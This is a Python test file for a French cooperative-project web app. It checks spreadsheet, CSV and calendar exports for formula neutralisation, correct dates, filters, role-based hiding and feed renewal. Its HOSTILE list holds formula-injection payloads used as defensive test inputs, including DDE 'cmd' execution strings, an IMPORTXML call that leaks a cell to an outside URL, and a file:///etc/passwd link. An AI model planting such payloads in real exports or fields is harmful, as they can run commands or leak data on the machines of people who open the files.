"""Files that people take away: the lines of the screen, real types, no formula, and calendars that diaries read."""

import csv
import io
from datetime import date, datetime
from types import SimpleNamespace

import pytest
from icalendar import Calendar
from openpyxl import load_workbook

from models import Role, StructureKind, close_account, today
from tests.support.factories import (
    make_chantier,
    make_coordinator,
    make_deliverable,
    make_demarche,
    make_member,
    make_objective,
    make_referent,
    make_structure,
    make_task,
    make_user,
)
from tests.support.terminal import plain

#: What lists have when everything in them passes a filter.
WHOLE = ("", "etat=expected", "chantier=mobilite")
#: What spreadsheets have taken for formulas, commands or links, or cannot hold.
HOSTILE = (
    "=1+1",
    "+33",
    "-2",
    "@SUM(A1)",
    "\t=1",
    '=HYPERLINK("https://example.org")',
    "  =2",
    "\u00a0=2",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=IMPORTXML("https://example.org/?"&A1, "//a")',
    "{=1+1}",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "https://example.org/a",
    "file:///etc/passwd",
    "mailto:a@example.org",
    "internal:Feuille!A1",
    "0612345678",
    "1E5",
    'a;b"c',
    "a\x1bb\x0bc",
)


@pytest.fixture
def chantier(session):
    make_demarche()
    return make_chantier("Mobilité")


def sheet(page, name):
    return load_workbook(io.BytesIO(page.data))[name]


def lines(page):
    assert page.data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(page.data.decode("utf-8-sig"), newline=""), delimiter=";"))


def taken(person, address, status=200):
    page = person.visit("GET", address, None, check=False)
    assert page.status == status
    return page


def all_of(person, address, *tag, **attributes):
    """Return what a list shows on all of its pages, in its order."""
    shown, page = [], person.get(address)
    while True:
        shown += page.texts(*tag, **attributes)
        further = [name for name, _address in page.links if name in ("Suivante", "Plus ancien")]
        if not further:
            return shown
        page = page.click(further[0])


def events(got):
    return {plain(str(event["SUMMARY"])): event for event in Calendar.from_ical(got.data).walk("VEVENT")}


def path(address):
    return address[address.index("/agenda/") :]


def test_no_word_is_a_formula_and_dates_are_dates(session, visitor, chantier):
    objective = make_objective(chantier)
    led = make_structure("=CMD()")
    for words in HOSTILE:
        make_task(objective, words, due_on=date(2020, 3, 1), pilote=led, description="x" * 40_000)
    person = visitor(make_user())
    page = taken(person, "/chantiers/mobilite/taches/exporter?format=xlsx")
    assert page.status == 200 and page.headers["Cache-Control"] == "private, no-store"
    assert page.headers["X-Content-Type-Options"] == "nosniff"
    assert str(today()) in page.headers["Content-Disposition"]
    found = sheet(page, "Tâches")
    assert all(cell.data_type != "f" and not cell.hyperlink for row in found.iter_rows() for cell in row)
    assert found.freeze_panes == "A2" and found.auto_filter.ref == f"A1:O{len(HOSTILE) + 1}"
    heads = [cell.value for cell in found[1]]
    first = dict(zip(heads, found[2], strict=True))
    assert first["Échéance"].value == datetime(2020, 3, 1) and first["Échéance"].number_format == "dd/mm/yyyy"
    assert first["Jours de retard"].value == (today() - date(2020, 3, 1)).days
    assert len(first["Description"].value) == 32_767
    assert {row[3].value for row in found.iter_rows(min_row=2)} >= {"=1+1", "@SUM(A1)", "abc"}
    rows = lines(taken(person, "/chantiers/mobilite/taches/exporter?format=csv"))
    assert not any(cell.lstrip().startswith(tuple("=+-@＝＋－＠")) for row in rows for cell in row)
    assert rows[1][7] == "01/03/2020"


def test_an_export_has_the_lines_of_its_list(session, visitor, chantier):
    objective, mine = make_objective(chantier), make_structure("Ecosolies")
    for number in range(60):
        make_task(objective, f"Tâche {number}", pilote=mine if number % 2 else None)
    person = visitor(make_user())
    for query in ("", f"structure={mine.id}", "etat=sans-pilote", "q=t%C3%A2che+5", "statut=done"):
        shown: list[str] = []
        page = 1
        while True:
            there = person.get(f"/chantiers/mobilite/taches?vue=liste&page={page}&{query}")
            titles = there.texts("a", class_="task-row__title")
            if not titles or titles[0] in shown:
                break
            shown, page = shown + titles, page + 1
        rows = lines(taken(person, f"/chantiers/mobilite/taches/exporter?format=csv&{query}"))
        assert [row[3] for row in rows[1:]] == shown, query


@pytest.fixture
def world(session, chantier):
    """Make lists that are longer than a page, and what narrows them."""
    other, objective = make_chantier("Alimentation"), make_objective(chantier)
    later = make_objective(chantier, "Un deuxième objectif")
    for number in range(64):
        structure = make_structure(f"{'Coop' if number % 3 else 'Été'} {number:02}")
        structure.kind = StructureKind.COOPERATIVE if number % 2 else StructureKind.NETWORK
        member = make_member(chantier, name=f"Membre {number:02}")
        if number < 34:
            kind = {"type_key": "cartographie" if number % 2 else "autre"}
            due = {"expected_on": date(2020, 1, 1) if number % 5 == 0 else None}
            make_deliverable(
                later if number % 3 else objective, f"Livrable {number:02}", by=member, **kind, **due
            )
    make_deliverable(make_objective(other), "D’ailleurs")
    session.flush()
    return SimpleNamespace(structure=structure, member=member, home="/chantiers/mobilite")


@pytest.mark.parametrize(
    ("page", "export", "shown", "column", "queries"),
    [
        (
            "{home}/livrables",
            "{home}/livrables/exporter",
            ("a", {"class_": "task-row__title"}),
            3,
            ("", "type=cartographie", "etat=expected", "etat=published", "retard=1&type=autre"),
        ),
        (
            "/livrables",
            "/exports/livrables",
            ("a", {"class_": "task-row__title"}),
            3,
            ("", "chantier=alimentation", "chantier=mobilite&type=autre"),
        ),
        (
            "/structures",
            "/exports/structures",
            ("a", {"class_": "letter__structure"}),
            0,
            ("", "q=ete", "nature=cooperative", "chantier=mobilite", "nature=network&q=coop"),
        ),
        (
            "{home}/membres",
            "{home}/membres/exporter",
            ("span", {"class_": "person__name"}),
            0,
            ("",),
        ),
        (
            "{home}/journal",
            "{home}/journal/exporter",
            ("p", {"class_": "timeline__words"}),
            1,
            (
                "",
                "quoi=livrables",
                "quoi=membres",
                "personne={member.id}",
                "quoi=livrables&personne={member.id}",
            ),
        ),
    ],
)
def test_each_export_has_the_lines_of_its_list(world, visitor, page, export, shown, column, queries):
    person, (tag, attributes) = visitor(make_user()), shown
    told = {}
    for query in (query.format(**vars(world)) for query in queries):
        listed = all_of(person, f"{page.format(**vars(world))}?{query}", tag, **attributes)
        rows = lines(taken(person, f"{export.format(**vars(world))}?format=csv&{query}"))[1:]
        exported = [" ".join(row[column].split()) for row in rows]
        assert exported == listed, query
        told[query] = len(listed)
    assert told[""] > 30 and all(count < told[""] for query, count in told.items() if query not in WHOLE), (
        told
    )


def test_the_first_sheet_says_the_filters_in_words_and_french_is_for_everybody(session, visitor, world):
    person = make_user(locale="en")
    for address, said in (
        (
            f"/taches/exporter?structure={world.structure.id}&statut=done&etat=retard&q=plan",
            "Mot du titre : plan, Structure : Été 63, Statut : Terminée, À surveiller : En retard",
        ),
        (f"/taches/exporter?personne={make_user().id}", "Personne : introuvable"),
        (
            "/livrables/exporter?type=cartographie&etat=in_review",
            "Type : Cartographie, État : En relecture",
        ),
        (
            f"/journal/exporter?quoi=taches&personne={world.member.id}",
            "Sujet : Tâches, Personne : Membre 63",
        ),
        ("/membres/exporter", "Aucun : tout ce que la liste montre."),
    ):
        book = load_workbook(io.BytesIO(taken(visitor(person), world.home + address).data))
        preface = {row[0].value: row[1].value for row in book["Lisez-moi"]}
        assert preface["Filtres"].replace("\xa0", " ") == said
        assert preface["Par"] == person.name
    address = "/exports/structures?chantier=mobilite&nature=network&q=coop"
    book = load_workbook(io.BytesIO(taken(visitor(person), address).data))
    assert (
        book["Lisez-moi"]["B5"].value.replace("\xa0", " ")
        == "Nom : coop, Nature : Réseau, Chantier : Mobilité"
    )
    whole = load_workbook(io.BytesIO(taken(visitor(person), "/exports/demarche.xlsx").data))
    names = ["Lisez-moi", "Chantiers", "Objectifs", "Tâches", "Livrables", "Structures", "Engagements"]
    assert whole.sheetnames == [*names, "Points d’avancement"]
    assert [cell.value for cell in whole["Tâches"][1]][5:8] == ["Statut", "Statut depuis le", "Échéance"]
    assert whole["Livrables"]["F2"].value == "Attendu"


def test_the_board_and_the_list_of_tasks_export_under_the_same_filters(session, visitor, chantier):
    objective, ours = make_objective(chantier), make_structure("Ecosolies")
    make_task(objective, "La leur")
    make_task(objective, "La nôtre", pilote=ours)
    for view in ("tableau", "liste"):
        page = visitor(make_user()).get(f"/chantiers/mobilite/taches?vue={view}&structure={ours.id}")
        (address,) = (
            link.get("href") for link in page.document.find_all("a") if "format=csv" in link.get("href", "")
        )
        assert [row[3] for row in lines(taken(visitor(make_user()), address))[1:]] == ["La nôtre"]


def test_observers_get_no_draft_and_addresses_are_for_who_manages(session, visitor, chantier):
    make_deliverable(make_objective(chantier), "Note", expected_on=date(2030, 1, 2))
    make_member(chantier, name="Ada")
    referent, observer = make_referent(chantier), make_user(role=Role.OBSERVER)
    told = lines(taken(visitor(make_user()), "/exports/livrables?format=csv"))
    kept = lines(taken(visitor(observer), "/exports/livrables?format=csv"))
    assert told[1][6] == "02/01/2030" and kept[1][6] == ""
    book = taken(visitor(observer), "/exports/demarche.xlsx")
    assert sheet(book, "Livrables")["G2"].value is None
    assert "Points d’avancement" not in load_workbook(io.BytesIO(book.data)).sheetnames
    assert sheet(book, "Lisez-moi")["B1"].value == "Chantiers coopératifs"
    address = "/chantiers/mobilite/membres/exporter?format=csv"
    assert b"@example.org" in taken(visitor(referent), address).data
    assert b"@" not in taken(visitor(observer), address).data
    for each in ("/exports/structures", "/exports/tableau-de-bord", "/chantiers/mobilite/journal/exporter"):
        assert taken(visitor(make_coordinator()), each).status == 200


def test_statements_do_not_grow_with_lines(session, visitor, chantier):
    objective, person = make_objective(chantier), visitor(make_user())
    counts = []
    for _round in range(2):
        for _ in range(20):
            make_task(objective)
            make_deliverable(objective)
        with person.count_statements() as statements:
            assert taken(person, "/exports/demarche.xlsx").status == 200
        counts.append(len(statements))
    assert counts[0] == counts[1] <= 14, counts


def test_a_calendar_is_read_by_a_diary_until_it_is_renewed(session, visitor, chantier):
    ours, user = make_structure("Ecosolies"), make_user()
    ours.gather(user, by=None)
    objective = make_objective(chantier)
    title = "Écrire ; lire, relire\\ et " + "é" * 100
    make_task(objective, title, due_on=today(), pilote=ours)
    make_task(objective, "D’une autre", due_on=today())
    person = visitor(user)
    page = person.get("/profil/agendas")
    mine = page.value_of("Adresse de l’agenda de mes échéances")
    address = mine[mine.index("/agenda/") :]
    got = taken(visitor(), address)
    assert got.status == 200 and got.headers["Content-Type"] == "text/calendar; charset=utf-8"
    assert b"\n" not in got.data.replace(b"\r\n", b"")
    assert all(len(line) <= 75 for line in got.data.split(b"\r\n"))
    (event,) = Calendar.from_ical(got.data).walk("VEVENT")
    assert event["SUMMARY"] == f"{title} (À venir)" and event.decoded("DTSTART") == today()
    assert event["TRANSP"] == "TRANSPARENT" and event["UID"].startswith("task-")
    again = visitor().visit("GET", address, None, check=False, headers={"If-None-Match": got.headers["ETag"]})
    assert again.status == 304
    page.submit("Renouveler les adresses")
    taken(visitor(), address, status=404)
    taken(visitor(), address.replace("/agenda/", "/agenda/x"), status=404)


def test_the_calendars_of_a_chantier_and_of_the_demarche_give_what_their_person_may_read(
    session, visitor, chantier
):
    here, there = make_objective(chantier), make_objective(make_chantier("Alimentation"))
    make_task(here, "Planter", due_on=today())
    make_task(there, "Cuisiner", due_on=today())
    make_task(here, "Sans date")
    make_deliverable(here, "Note", expected_on=today())
    published = make_deliverable(there, "Carte", expected_on=today())
    reader, observer = make_user(), make_user(role=Role.OBSERVER)
    given = {}
    for user in (reader, observer):
        page = visitor(user).get("/profil/agendas")
        for name in ("du chantier", "de la démarche"):
            label = "de Mobilité" if name == "du chantier" else name
            given[user, name] = path(page.value_of(f"Adresse de l’agenda {label}"))
    assert set(events(taken(visitor(), given[reader, "du chantier"]))) == {
        "Planter (À venir)",
        "Livrable : Note (Attendu)",
    }
    whole = events(taken(visitor(), given[reader, "de la démarche"]))
    assert set(whole) == {
        "Planter (À venir)",
        "Cuisiner (À venir)",
        "Livrable : Note (Attendu)",
        "Livrable : Carte (Attendu)",
    }
    assert len({event["UID"] for event in whole.values()}) == 4
    told = events(taken(visitor(), given[observer, "de la démarche"]))
    assert not [words for words in told if "Livrable" in words], told
    published.trash(by=reader)
    assert "Livrable : Carte (Attendu)" not in events(taken(visitor(), given[reader, "de la démarche"]))
    close_account(reader, by=reader)
    taken(visitor(), given[reader, "de la démarche"], status=404)
    taken(visitor(), given[reader, "du chantier"], status=404)
    taken(visitor(), given[observer, "du chantier"])
